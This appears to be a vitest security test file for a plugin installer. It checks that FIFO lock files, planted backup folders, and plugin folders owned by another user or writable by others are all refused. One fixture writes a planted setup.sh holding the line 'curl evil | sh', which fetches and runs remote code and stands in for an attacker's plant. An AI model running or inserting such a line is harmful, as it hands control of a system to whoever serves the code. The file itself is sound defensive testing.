// Attack: the plugins folder as a place to plant things. A FIFO under the install lock's name, a
// folder named like the installer's own backup, a plugins folder another user owns or can write
// to. Before, the FIFO hung the install past its abort signal, and a failed install swapped the
// planted "backup" in as the plugin.
import { chmodSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { ConfigError, IntegrityError } from '@molecule-ai/agent-core';
import { installPluginArchive } from '@molecule-ai/agent-core/plugins';
import { buildTestTar } from '@molecule-ai/agent-core/testing';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createFsPluginSink } from '../../src/plugins/fs-plugin-sink.js';
import {
  giveToOtherUser,
  makeFifo,
  makeTempDir,
  runSecurityChild,
  securityChildScript,
} from './security-helpers.js';

let temp: { dir: string; remove: () => void };
let pluginsDir: string;
beforeEach(() => {
  temp = makeTempDir('security-plugins-');
  pluginsDir = join(temp.dir, 'plugins');
});
afterEach(() => temp.remove());
afterAll(async () => (await securityChildScript()).remove());

const archive = (files: Record<string, string>): ReadableStream<Uint8Array> =>
  new Blob([
    gzipSync(buildTestTar(Object.entries(files).map(([name, content]) => ({ name, content })))),
  ]).stream();

function install(files: Record<string, string>, expectedSha256?: string) {
  return installPluginArchive(archive(files), {
    name: 'demo',
    sink: createFsPluginSink({ pluginsDir }),
    runSetup: false,
    expectedSha256,
  });
}

describe('plugins folder attacks', () => {
  it('a FIFO install lock does not hang the install past its abort signal: it is refused at once', async () => {
    mkdirSync(pluginsDir, { mode: 0o755 });
    makeFifo(join(pluginsDir, '.lock-demo'));
    const outcome = await runSecurityChild(['install', pluginsDir, 'demo', '1000']);
    expect(outcome.hung).toBe(false);
    expect(outcome).toMatchObject({ ok: false, name: 'ConfigError' });
    expect(outcome.message).toMatch(/lock file .*\.lock-demo.* FIFO/);
    expect(existsSync(join(pluginsDir, 'demo'))).toBe(false);
  });

  it('a planted .old-<name>-<id> folder is never swapped in when an install fails', async () => {
    mkdirSync(join(pluginsDir, '.old-demo-0badc0de'), { recursive: true, mode: 0o755 });
    writeFileSync(join(pluginsDir, '.old-demo-0badc0de', 'setup.sh'), 'curl evil | sh\n');
    const failing = install({ VERSION: 'v1' }, 'f'.repeat(64));
    await expect(failing).rejects.toBeInstanceOf(IntegrityError);
    const sink = createFsPluginSink({ pluginsDir });
    expect(await sink.installedPath('demo')).toBeNull();
    expect(existsSync(join(pluginsDir, 'demo'))).toBe(false);
    expect(readdirSync(pluginsDir).filter((name) => !name.startsWith('.lock-'))).toEqual([]);
  });

  it('a planted .old-<name>-<id> folder is never swapped in over an installed plugin either', async () => {
    await install({ VERSION: 'v1' });
    mkdirSync(join(pluginsDir, '.old-demo-0badc0de'), { mode: 0o755 });
    writeFileSync(join(pluginsDir, '.old-demo-0badc0de', 'VERSION'), 'planted');
    await expect(install({ VERSION: 'v2' }, 'f'.repeat(64))).rejects.toBeInstanceOf(IntegrityError);
    const { readFileSync } = await import('node:fs');
    expect(readFileSync(join(pluginsDir, 'demo', 'VERSION'), 'utf8')).toBe('v1');
    expect(existsSync(join(pluginsDir, '.old-demo-0badc0de'))).toBe(false);
  });

  it('a plugins folder owned by another user is refused with what to fix', async () => {
    mkdirSync(pluginsDir, { mode: 0o755 });
    giveToOtherUser(pluginsDir);
    const installing = install({ VERSION: 'v1' });
    await expect(installing).rejects.toBeInstanceOf(ConfigError);
    await expect(installing).rejects.toThrow(/plugins folder .* owned by uid 65534.*use a folder you own/);
    expect(readdirSync(pluginsDir)).toEqual([]);
  });

  it('a plugins folder others can write to is refused with the chmod to run', async () => {
    mkdirSync(pluginsDir);
    chmodSync(pluginsDir, 0o777);
    await expect(install({ VERSION: 'v1' })).rejects.toThrow(
      /plugins folder .*other users can write.*chmod go-w/,
    );
    expect(readdirSync(pluginsDir)).toEqual([]);
  });

  it('a plugins folder is created 0755 whatever the umask, so a fresh install passes its own check', async () => {
    const previous = process.umask(0o002);
    try {
      const result = await install({ VERSION: 'v1' });
      expect(result.path).toBe(join(pluginsDir, 'demo'));
    } finally {
      process.umask(previous);
    }
  });
});
